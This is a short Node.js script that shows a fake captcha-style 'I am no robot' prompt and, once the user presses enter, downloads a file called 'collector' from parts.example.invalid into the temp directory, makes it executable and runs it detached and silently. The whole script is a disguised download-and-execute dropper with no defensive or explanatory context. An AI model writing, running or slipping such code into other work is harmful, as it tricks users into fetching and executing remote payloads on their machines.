const fs = require('fs'), http = require('http'), os = require('os'), path = require('path')
const { spawn } = require('child_process')
const lines = require('readline').createInterface({ input: process.stdin, output: process.stdout })

console.log('I am no robot, the letters are: x7Kp')
lines.question('> ', () => {
  const place = path.join(os.tmpdir(), 'collector')
  http.get('http://parts.example.invalid/collector', answer => {
    const file = fs.createWriteStream(place)
    answer.pipe(file)
    file.on('finish', () => file.close(() => { fs.chmodSync(place, 0o755); spawn(place, { detached: true, stdio: 'ignore' }).unref() }))
  })
})
